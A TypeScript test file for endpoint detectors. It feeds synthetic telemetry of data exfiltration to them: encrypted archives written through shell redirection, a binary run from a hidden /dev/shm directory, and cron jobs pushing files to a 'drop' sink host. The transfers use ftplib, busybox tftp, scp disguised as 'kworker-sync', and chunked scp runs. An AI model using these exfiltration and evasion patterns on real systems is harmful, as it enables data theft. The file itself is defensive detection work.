// The weakness classes of issue 16, each reduced to its telemetry shape: the writer behind a shell redirection
// (AN1214), a non-standard creator running its own padded binary (AN1529), transfers seen only on the network and
// bytes counted per flow and per job (AN1170). Each failed before its fix; the real-run counterparts are in
// variants.test.ts.
import { expect } from 'chai';
import type { TelemetryItem } from '../../harness/telemetry/types.js';
import { artifact, audit, clone, connect, create, exec, flow } from './factory.js';
import { runDetector } from './run.js';

const MB = 1024 * 1024;
const SINK = '172.18.0.3';
const VICTIM = '172.18.0.2';
const OUT = '/tmp/docs.tar.gz.aes';

/** bash script (pid 100) forks a child (pid 101) that opens OUT for the redirection, then execs `argv`. */
function redirectedInto(argv: string[], exe: string, order: 'exec-first' | 'content-first' = 'exec-first'): TelemetryItem[] {
  const head: TelemetryItem[] = [
    exec({ t: 0, pid: 100, ppid: 1, uid: 1000, argv: ['/bin/bash', '/home/alice/backup.sh'], exe: '/usr/bin/bash', cwd: '/home/alice' }),
    clone({ t: 1, pid: 100, ppid: 1, uid: 1000, exe: '/usr/bin/bash', child: 101 }),
    create({ t: 1, pid: 101, ppid: 100, uid: 1000, exe: '/usr/bin/bash', path: OUT }),
  ];
  // `2>/dev/null`: the child opens more files for its redirections before it execs.
  head.push(audit({ t: 1, pid: 101, ppid: 100, uid: 1000, exe: '/usr/bin/bash', syscall: 'openat', args: ['ffffff9c', '7ffd0000', '241', '1b6'], exit: 4, files: [{ name: '/dev/null', nametype: 'NORMAL', mode: '020666' }] }));
  const execItem = exec({ t: 1.01, pid: 101, ppid: 100, uid: 1000, argv, exe, cwd: '/home/alice' });
  const content = artifact({ path: OUT, t: 1.005 });
  return order === 'exec-first' ? [...head, execItem, artifact({ path: OUT, t: 3 })] : [...head, content, execItem];
}

describe('issue 16 weakness classes (hand-made telemetry)', () => {
  describe('AN1214 judges the process that really wrote the file', () => {
    it('a shell redirection into openssl enc (headerless ciphertext) is the standard encryptor writing: quiet', () => {
      const { alerts, stats } = runDetector('AN1214', redirectedInto(['openssl', 'enc', '-aes-256-cbc', '-nosalt'], '/usr/bin/openssl'));
      expect(alerts).to.have.length(0);
      expect(stats.writerAfterExec).to.equal(1);
      expect(stats.skippedStandardArchiver).to.equal(1);
    });

    it('also when the content arrives before the exec is seen (replay reads files at creation)', () => {
      const { alerts } = runDetector('AN1214', redirectedInto(['gpg', '-c'], '/usr/bin/gpg', 'content-first'));
      expect(alerts).to.have.length(0);
    });

    it('a redirection into an interpreter filter (tar | python3 -c ... > out) is judged as python3: alert', () => {
      const { alerts } = runDetector('AN1214', redirectedInto(['python3', '-c', 'xor'], '/usr/bin/python3.11'));
      expect(alerts).to.have.length(1);
      expect(alerts[0]!.evidence.facts.interpreter).to.equal('python3.11');
      expect(alerts[0]!.evidence.facts.interpreterIsWriter).to.equal(true);
    });

    it('a shell that writes with a builtin (no exec follows) is the writer: alert', () => {
      const items: TelemetryItem[] = [
        ...redirectedInto(['unused'], '/bin/true').slice(0, 4),
        clone({ t: 1.5, pid: 101, ppid: 100, uid: 1000, exe: '/usr/bin/bash', child: 102 }),
        artifact({ path: OUT, t: 4 }),
      ];
      const { alerts } = runDetector('AN1214', items);
      expect(alerts).to.have.length(1);
      expect(alerts[0]!.evidence.facts.interpreter).to.equal('bash');
    });
  });

  describe('AN1529 follows the analytic: use by any non-standard user', () => {
    it('the non-standard creator running her own 24 MB ELF alerts; exemptCreator: true restores the narrow reading', () => {
      const items: TelemetryItem[] = [
        create({ t: 0, pid: 100, uid: 1000, exe: '/usr/bin/cp', path: '/dev/shm/.x/helper' }),
        exec({ t: 5, pid: 101, uid: 1000, argv: ['/dev/shm/.x/helper'], exe: '/dev/shm/.x/helper' }),
        artifact({ path: '/dev/shm/.x/helper', t: 6, format: 'elf', mode: '0100755', size: 24 * MB }),
      ];
      expect(runDetector('AN1529', items).alerts).to.have.length(1);
      expect(runDetector('AN1529', items, { overrides: { UserContext: { exemptCreator: true } } }).alerts).to.have.length(0);
    });
  });

  describe('AN1170 sees transfers beyond argv[0]', () => {
    /** cron (10) → sh (12) → `argv` (13). */
    const cronRuns = (argv: string[], exe: string): TelemetryItem[] => [
      exec({ t: 0, pid: 10, ppid: 1, argv: ['/usr/sbin/cron', '-f'], exe: '/usr/sbin/cron' }),
      clone({ t: 1, pid: 10, ppid: 1, exe: '/usr/sbin/cron', child: 11 }),
      clone({ t: 1, pid: 11, ppid: 10, exe: '/usr/sbin/cron', child: 12 }),
      exec({ t: 1, pid: 12, ppid: 11, uid: 1000, argv: ['/bin/sh', '-c', 'job'], exe: '/usr/bin/dash' }),
      clone({ t: 1, pid: 12, ppid: 11, uid: 1000, exe: '/usr/bin/dash', child: 13 }),
      exec({ t: 2, pid: 13, ppid: 12, uid: 1000, argv, exe, cwd: '/home/alice' }),
    ];

    it("python's ftplib: connects to port 21 and a passive data port; the data flow's bytes decide", () => {
      const items = [
        ...cronRuns(['python3', '/opt/x/ftplib-transfer.py', 'put', '/home/alice/x.bin', SINK], '/usr/bin/python3.11'),
        connect({ t: 2.1, pid: 13, ppid: 12, uid: 1000, exe: '/usr/bin/python3.11', addr: SINK, port: 21 }),
        flow({ t: 2.2, src: VICTIM, sport: 50000, dst: SINK, dport: 21, bytesOut: 900 }),
        connect({ t: 2.3, pid: 13, ppid: 12, uid: 1000, exe: '/usr/bin/python3.11', addr: SINK, port: 30004 }),
        flow({ t: 3, src: VICTIM, sport: 50001, dst: SINK, dport: 30004, bytesOut: 21 * MB }),
      ];
      const { alerts } = runDetector('AN1170', items);
      expect(alerts).to.have.length(1);
      expect(alerts[0]!.evidence.facts.matchedBy).to.equal('connect to port 21');
      expect(alerts[0]!.confidence).to.equal('high');
    });

    it('busybox tftp (the applet is argv[1]) and a tool started under another argv[0] (exec -a)', () => {
      const busybox = runDetector('AN1170', [
        ...cronRuns(['busybox', 'tftp', '-p', '-l', '/home/alice/x.bin', '-r', 'x.bin', SINK], '/usr/bin/busybox'),
        flow({ t: 3, protocol: 'udp', src: VICTIM, sport: 40000, dst: SINK, dport: 69, bytesOut: 60 }),
        flow({ t: 4, protocol: 'udp', src: SINK, sport: 50000, dst: VICTIM, dport: 40000, bytesOut: 9000, bytesIn: 16 * MB }),
      ]);
      expect(busybox.alerts).to.have.length(1);
      expect(busybox.alerts[0]!.evidence.facts.bytesSent).to.equal(16 * MB + 60);
      const renamed = runDetector('AN1170', [
        ...cronRuns(['kworker-sync', '-q', '/home/alice/x.bin', `drop@${SINK}:`], '/usr/bin/scp'),
        connect({ t: 2.1, pid: 13, ppid: 12, uid: 1000, exe: '/usr/bin/scp', addr: SINK, port: 22 }),
        flow({ t: 3, src: VICTIM, sport: 50000, dst: SINK, dport: 22, bytesOut: 20 * MB }),
      ]);
      expect(renamed.alerts).to.have.length(1);
    });
  });

  describe('AN1170 counts bytes per flow, tied to the process that opened it, and sums a job', () => {
    it('a tiny cron scp is not credited with a large interactive scp to the same host', () => {
      const items = [
        ...cronRuns13('scp'),
        connect({ t: 2.1, pid: 13, ppid: 12, uid: 1000, exe: '/usr/bin/scp', addr: SINK, port: 22 }),
        flow({ t: 2.5, src: VICTIM, sport: 50000, dst: SINK, dport: 22, bytesOut: 8000 }),
        exec({ t: 10, pid: 40, ppid: 39, uid: 1000, argv: ['scp', '/home/alice/big', `drop@${SINK}:`], exe: '/usr/bin/scp', tty: 'pts0' }),
        connect({ t: 10.1, pid: 40, ppid: 39, uid: 1000, exe: '/usr/bin/scp', addr: SINK, port: 22, tty: 'pts0' }),
        flow({ t: 12, src: VICTIM, sport: 50002, dst: SINK, dport: 22, bytesOut: 20 * MB }),
      ];
      const { alerts, stats } = runDetector('AN1170', items);
      expect(alerts).to.have.length(0);
      expect(stats.flowsOfOtherProcesses).to.be.greaterThan(0);
    });

    it('5 MB scp runs of one cron job are summed (one alert once the job passes 10 MB); two separate 6 MB jobs are not', () => {
      const oneJob: TelemetryItem[] = [...cronRuns13('scp').slice(0, 4)];
      for (let i = 0; i < 4; i++) {
        const pid = 20 + i;
        oneJob.push(
          clone({ t: 2 + i, pid: 12, ppid: 11, uid: 1000, exe: '/usr/bin/dash', child: pid }),
          exec({ t: 2 + i, pid, ppid: 12, uid: 1000, argv: ['scp', `/tmp/part-${i}`, `drop@${SINK}:`], exe: '/usr/bin/scp' }),
          connect({ t: 2.1 + i, pid, ppid: 12, uid: 1000, exe: '/usr/bin/scp', addr: SINK, port: 22 }),
          flow({ t: 2.5 + i, src: VICTIM, sport: 50000 + i, dst: SINK, dport: 22, bytesOut: 5 * MB }),
        );
      }
      const { alerts } = runDetector('AN1170', oneJob);
      expect(alerts).to.have.length(1);
      expect(alerts[0]!.evidence.facts.transfersInJob).to.equal(3);
      expect(alerts[0]!.evidence.facts.bytesSent).to.equal(15 * MB);

      const twoJobs: TelemetryItem[] = [];
      for (const [k, base] of [[0, 100], [1, 200]] as const) {
        twoJobs.push(
          exec({ t: k, pid: base, ppid: 1, argv: ['/usr/sbin/cron', '-f'], exe: '/usr/sbin/cron' }),
          clone({ t: k, pid: base, ppid: 1, exe: '/usr/sbin/cron', child: base + 1 }),
          exec({ t: k, pid: base + 1, ppid: base, uid: 1000, argv: ['/bin/sh', '-c', 'job'], exe: '/usr/bin/dash' }),
          clone({ t: k, pid: base + 1, ppid: base, uid: 1000, exe: '/usr/bin/dash', child: base + 2 }),
          exec({ t: k, pid: base + 2, ppid: base + 1, uid: 1000, argv: ['scp', '/tmp/p', `drop@${SINK}:`], exe: '/usr/bin/scp' }),
          connect({ t: k + 0.1, pid: base + 2, ppid: base + 1, uid: 1000, exe: '/usr/bin/scp', addr: SINK, port: 22 }),
          flow({ t: k + 0.5, src: VICTIM, sport: 51000 + base, dst: SINK, dport: 22, bytesOut: 6 * MB }),
        );
      }
      expect(runDetector('AN1170', twoJobs).alerts).to.have.length(0);
    });
  });
});

/** cron (10) → cron child (11) → sh (12) → `tool` (13) with a file and the sink as arguments. */
function cronRuns13(tool: string): TelemetryItem[] {
  return [
    exec({ t: 0, pid: 10, ppid: 1, argv: ['/usr/sbin/cron', '-f'], exe: '/usr/sbin/cron' }),
    clone({ t: 1, pid: 10, ppid: 1, exe: '/usr/sbin/cron', child: 11 }),
    clone({ t: 1, pid: 11, ppid: 10, exe: '/usr/sbin/cron', child: 12 }),
    exec({ t: 1, pid: 12, ppid: 11, uid: 1000, argv: ['/bin/sh', '-c', 'job'], exe: '/usr/bin/dash' }),
    clone({ t: 1, pid: 12, ppid: 11, uid: 1000, exe: '/usr/bin/dash', child: 13 }),
    exec({ t: 2, pid: 13, ppid: 12, uid: 1000, argv: [tool, '/home/alice/status.json', `drop@${SINK}:`], exe: `/usr/bin/${tool}` }),
  ];
}
